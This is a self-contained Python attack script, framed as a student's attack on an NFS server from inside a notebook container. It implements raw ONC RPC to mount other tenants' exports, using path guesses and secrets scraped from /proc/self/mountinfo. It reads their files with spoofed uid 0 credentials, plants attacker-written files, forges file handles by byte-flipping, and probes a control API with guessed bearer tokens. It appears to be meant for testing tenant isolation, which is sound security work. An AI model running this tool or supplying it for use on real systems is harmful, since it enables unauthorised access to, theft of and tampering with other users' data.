#!/usr/bin/env python3
"""A student's attack on nfsd from inside a notebook container (stdlib only, Python 3.7+).

Raw ONC RPC over TCP (record marking, AUTH_SYS, XDR) against MOUNT v3 and NFS v3, plus the
control API over HTTP. For every --nfs HOST:PORT: TCP connect, EXPORT, MNT of every victim path
(given, listed by EXPORT, and each victim volume with every secret stolen from the own mounts
and some guesses), then on every handle it got: GETATTR, READDIR, LOOKUP + READ of --lookup
names, CREATE + WRITE of --plant. From the own exports' handles it forges others (bytes flipped,
view id re-labelled) and tries them. For every --api HOST:PORT: GET /v1/volumes without a token
and with guessed ones. One JSON object per line; "ok": true means the step got through, and
"victim": true marks steps against what is not the attacker's. --mountinfo reads the own
swarmhub mounts (FUSE source `swarmhub:HOST:PORT:/EXPORT`, kernel `:/EXPORT` + addr=/port=)
from /proc/self/mountinfo: targets, own exports and the secrets in their paths.
"""
import argparse, json, os, random, socket, struct, threading

MOUNT, NFS = (100005, 3), (100003, 3)
ARGS = None
OWN = set()
LOCK = threading.Lock()


def out(**kw):
    kw.setdefault("label", ARGS.label)
    with LOCK:
        print(json.dumps(kw, sort_keys=True), flush=True)


class X:  # XDR packer / unpacker
    def __init__(self, data=b""):
        self.b, self.i = bytearray(data), 0

    def u32(self, v=None):
        if v is not None:
            self.b += struct.pack(">I", v & 0xFFFFFFFF); return self
        self.i += 4; return struct.unpack_from(">I", self.b, self.i - 4)[0]

    def u64(self, v=None):
        if v is not None:
            self.b += struct.pack(">Q", v); return self
        self.i += 8; return struct.unpack_from(">Q", self.b, self.i - 8)[0]

    def opaque(self, v=None):
        if v is not None:
            v = bytes(v); self.u32(len(v)); self.b += v + b"\0" * (-len(v) % 4); return self
        n = self.u32(); v = bytes(self.b[self.i:self.i + n]); self.i += n + (-n % 4); return v

    def fixed(self, n):
        self.i += n; return bytes(self.b[self.i - n:self.i])

    def attr(self, follows=None):  # post_op_attr (or a bare fattr3 with follows=1) -> dict or None
        if not (follows or self.u32()):
            return None
        t, mode, nlink, uid, gid = (self.u32() for _ in range(5))
        size = self.u64(); self.fixed(84 - 28)
        return {"type": t, "mode": oct(mode), "uid": uid, "gid": gid, "size": size}


class Rpc:
    def __init__(self, host, port):
        self.s = socket.create_connection((host, port), timeout=ARGS.timeout)
        self.s.settimeout(ARGS.timeout + 2)
        self.xid = random.randrange(1 << 31)

    def recv(self, n):
        b = b""
        while len(b) < n:
            c = self.s.recv(n - len(b))
            if not c:
                raise EOFError("connection closed")
            b += c
        return b

    def call(self, prog, proc, args=b"", uid=0):
        self.xid += 1
        cred = X().u32(0).opaque(b"notebook").u32(uid).u32(100 if uid else 0).u32(0).b
        x = X().u32(self.xid).u32(0).u32(2).u32(prog[0]).u32(prog[1]).u32(proc)
        x.u32(1).opaque(cred).u32(0).opaque(b"")
        msg = bytes(x.b) + bytes(args)
        self.s.sendall(struct.pack(">I", 0x80000000 | len(msg)) + msg)
        data = b""
        while True:
            (h,) = struct.unpack(">I", self.recv(4))
            data += self.recv(h & 0x7FFFFFFF)
            if h & 0x80000000:
                break
        r = X(data)
        r.u32()
        if r.u32() != 1 or r.u32() != 0:
            raise IOError("RPC call denied")
        r.u32(); r.opaque()
        st = r.u32()
        if st != 0:
            raise IOError("RPC accept_stat %d" % st)
        return r


def nfs_ops(rpc, tgt, what, fh, victim):
    """Everything a handle allows: GETATTR, READDIR, LOOKUP + READ, CREATE + WRITE."""
    base = dict(target=tgt, what=what, victim=victim, fh=fh.hex())
    got = False
    for uid in ARGS.uid:
        r = rpc.call(NFS, 1, X().opaque(fh).b, uid)
        st = r.u32()
        out(step="getattr", uid=uid, status=st, ok=st == 0, attr=r.attr(1) if st == 0 else None, **base)
        got = got or st == 0
    if not got:
        return False
    r = rpc.call(NFS, 16, X().opaque(fh).u64(0).u64(0).u32(8192).b, 0)
    st = r.u32(); names = []
    if st == 0:
        r.attr(); r.fixed(8)
        while r.u32():
            r.u64(); names.append(r.opaque().decode("utf-8", "replace")); r.u64()
    out(step="readdir", status=st, ok=st == 0, names=names, **base)
    for name in ARGS.lookup:
        r = rpc.call(NFS, 3, X().opaque(fh).opaque(name.encode()).b, 0)
        st = r.u32()
        out(step="lookup", name=name, status=st, ok=st == 0, **base)
        if st != 0:
            continue
        f = r.opaque()
        for uid in ARGS.uid:
            r = rpc.call(NFS, 6, X().opaque(f).u64(0).u32(4096).b, uid)
            st = r.u32(); r.attr(); data = b""
            if st == 0:
                r.u32(); r.u32(); data = r.opaque()
            out(step="read", name=name, uid=uid, status=st, ok=st == 0,
                data=data.decode("utf-8", "replace")[:300], **base)
    if ARGS.plant:
        for uid in ARGS.uid:
            name = "%s-%d" % (ARGS.plant, uid)
            how = X().u32(0).u32(1).u32(0o644).u32(0).u32(0).u32(0).u32(0).u32(0).b
            r = rpc.call(NFS, 8, X().opaque(fh).opaque(name.encode()).b + how, uid)
            st = r.u32()
            out(step="create", name=name, uid=uid, status=st, ok=st == 0, **base)
            if st == 0 and r.u32():
                f = r.opaque()
                data = b"planted by an attacker\n"
                r = rpc.call(NFS, 7, X().opaque(f).u64(0).u32(len(data)).u32(2).opaque(data).b, uid)
                st = r.u32()
                out(step="write", name=name, uid=uid, status=st, ok=st == 0, **base)
    return True


def mnt(rpc, tgt, path):
    r = rpc.call(MOUNT, 1, X().opaque(path.encode()).b, 0)
    st = r.u32()
    fh = r.opaque() if st == 0 else None
    victim = path.strip("/").split("/")[0] not in {o.strip("/").split("/")[0] for o in OWN}
    out(step="mnt", target=tgt, path=path, status=st, ok=st == 0, victim=victim)
    return fh, victim


def forgeries(fh):
    """Handles a client could make from its own: each byte flipped, the view id (bytes 1..4 of
    nfsd's layout, but any 4 bytes could be tried) set to its neighbours, truncated, zeros."""
    yield "truncated", fh[:-1]
    yield "zeros", bytes(len(fh))
    for i in range(len(fh)):
        yield "flip%d" % i, fh[:i] + bytes([fh[i] ^ 0x01]) + fh[i + 1:]
    if len(fh) >= 5:
        own = struct.unpack(">I", fh[1:5])[0]
        for vid in range(max(0, own - ARGS.relabel), own + ARGS.relabel + 1):
            if vid != own:
                yield "view%d" % vid, fh[:1] + struct.pack(">I", vid) + fh[5:]


class Conn:
    """One target; reconnects after an error so that one refused call hides no later attempt."""

    def __init__(self, tgt):
        self.tgt, self.rpc = tgt, None

    def run(self, what, f):
        try:
            if self.rpc is None:
                host, port = self.tgt.rsplit(":", 1)
                self.rpc = Rpc(host, int(port))
            return f(self.rpc)
        except Exception as e:
            out(step="rpc-error", target=self.tgt, what=what, ok=False, error="%s: %s" % (type(e).__name__, e))
            self.rpc = None


def export_list(rpc):
    r = rpc.call(MOUNT, 5)
    listed = []
    while r.u32():
        listed.append(r.opaque().decode("utf-8", "replace"))
        while r.u32():
            r.opaque()
    return listed


def attack_nfs(tgt):
    host, port = tgt.rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), timeout=ARGS.timeout)
        out(step="connect", target=tgt, ok=True, victim=True, peer=str(s.getpeername()))
        s.close()
    except Exception as e:
        out(step="connect", target=tgt, ok=False, victim=True, error=str(e))
        return
    c = Conn(tgt)
    listed = c.run("export", export_list) or []
    out(step="export", target=tgt, ok=len(listed) > 0, entries=len(listed), exports=listed, victim=True)
    paths = list(ARGS.victim) + [p for p in listed if p not in OWN]
    for vol in ARGS.victim_volume + [p.strip("/").split("/")[0] for p in listed]:
        paths += ["/" + vol, "/%s/" % vol, "/%s/.." % vol, "//" + vol, vol]
        paths += ["/%s/%s" % (vol, s) for s in ARGS.secret + ["0" * 32, "guess", "..", "."]]
    seen = set()
    for p in [p for p in paths if not (p in seen or seen.add(p))]:
        c.run("mnt " + p, lambda rpc: victim_mnt(rpc, tgt, p))
    for p in ARGS.own:
        fh = c.run("own mnt " + p, lambda rpc: mnt(rpc, tgt, p)[0])
        if fh is None:
            continue
        c.run("own " + p, lambda rpc: nfs_ops(rpc, tgt, "own " + p, fh, False))
        for how, f in forgeries(fh):
            c.run("forged %s of %s" % (how, p), lambda rpc: forged(rpc, tgt, "%s of %s" % (how, p), f))


def victim_mnt(rpc, tgt, path):
    fh, victim = mnt(rpc, tgt, path)
    if fh is not None:
        nfs_ops(rpc, tgt, "mnt " + path, fh, victim)


def forged(rpc, tgt, what, fh):
    r = rpc.call(NFS, 1, X().opaque(fh).b, 0)
    st = r.u32()
    out(step="forged", target=tgt, what=what, status=st, ok=st == 0, victim=True)
    if st == 0:
        nfs_ops(rpc, tgt, "forged " + what, fh, True)


def attack_api(hostport):
    host, port = hostport.rsplit(":", 1)
    tokens = [None, "guess", "Bearer", "0" * 64] + ARGS.token
    # resolve once: a name the notebook's DNS does not know takes seconds per lookup
    try:
        addr = socket.getaddrinfo(host, int(port), type=socket.SOCK_STREAM)[0][4]
    except Exception as e:
        for token in tokens:
            out(step="api", target=hostport, token=token, ok=False, connected=False, error=str(e), victim=True)
        return
    for token in tokens:
        req = "GET /v1/volumes HTTP/1.0\r\nHost: %s\r\n" % hostport
        if token is not None:
            req += "Authorization: Bearer %s\r\n" % token
        try:
            s = socket.create_connection(addr[:2], timeout=ARGS.timeout)
            s.settimeout(ARGS.timeout + 2)
            s.sendall((req + "\r\n").encode())
            data = b""
            while len(data) < 1 << 20:
                c = s.recv(65536)
                if not c:
                    break
                data += c
            s.close()
        except Exception as e:
            out(step="api", target=hostport, token=token, ok=False, connected=False, error=str(e), victim=True)
            continue
        head, _, body = data.partition(b"\r\n\r\n")
        code = int(head.split(b" ")[1]) if head.startswith(b"HTTP/") else 0
        out(step="api", target=hostport, token=token, status=code, ok=code == 200, connected=True, victim=True,
            body=body.decode("utf-8", "replace")[:2000])


def own_mounts():
    for line in open("/proc/self/mountinfo"):
        pre, _, post = line.partition(" - ")
        fstype, source, opts = (post.split() + ["", "", ""])[:3]
        if source.startswith("swarmhub:"):  # FUSE: swarmhub:HOST:PORT:/EXPORT
            server, _, export = source[len("swarmhub:"):].rpartition(":/")
            yield server, "/" + export
        elif fstype.startswith("nfs"):  # kernel: [host]:/EXPORT ... addr=IP,port=P
            o = dict(kv.split("=", 1) for kv in opts.split(",") if "=" in kv)
            if "addr" in o:
                yield "%s:%s" % (o["addr"], o.get("port", "2049")), source.split(":", 1)[1]


def main():
    global ARGS
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    a = p.add_argument
    a("--nfs", action="append", default=[], help="HOST:PORT of NFS + MOUNT")
    a("--api", action="append", default=[], help="HOST:PORT of the control API")
    a("--victim", action="append", default=[], help="an export path to MNT")
    a("--victim-volume", action="append", default=[], help="a volume name: /NAME, /NAME/<secret>, ...")
    a("--own", action="append", default=[], help="an own export (base for forged handles)")
    a("--secret", action="append", default=[], help="a stolen secret to try on victim volumes")
    a("--lookup", action="append", default=[], help="a name to LOOKUP and READ in every tree")
    a("--plant", default="planted-by-attacker", help="name prefix of the file to CREATE + WRITE")
    a("--token", action="append", default=[], help="an API token to try")
    a("--uid", action="append", type=int, default=[], help="AUTH_SYS uids [0, 1000]")
    a("--relabel", type=int, default=16, help="view ids around the own one to try")
    a("--timeout", type=float, default=3.0)
    a("--mountinfo", action="store_true", help="take targets, own exports, secrets from own mounts")
    a("--label", default="%d" % os.getuid())
    ARGS = p.parse_args()
    ARGS.uid = ARGS.uid or [0, 1000]
    if ARGS.mountinfo:
        for server, export in own_mounts():
            out(step="own-mount", server=server, export=export, ok=True, victim=False)
            if server not in ARGS.nfs:
                ARGS.nfs.append(server)
            ARGS.own.append(export)
            ARGS.secret += [s for s in export.strip("/").split("/")[1:] if s]
    OWN.update(ARGS.own)
    threads = [threading.Thread(target=attack_nfs, args=(t,)) for t in ARGS.nfs]
    threads += [threading.Thread(target=attack_api, args=(t,)) for t in ARGS.api]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    out(step="done", ok=True, victim=False)


if __name__ == "__main__":
    main()
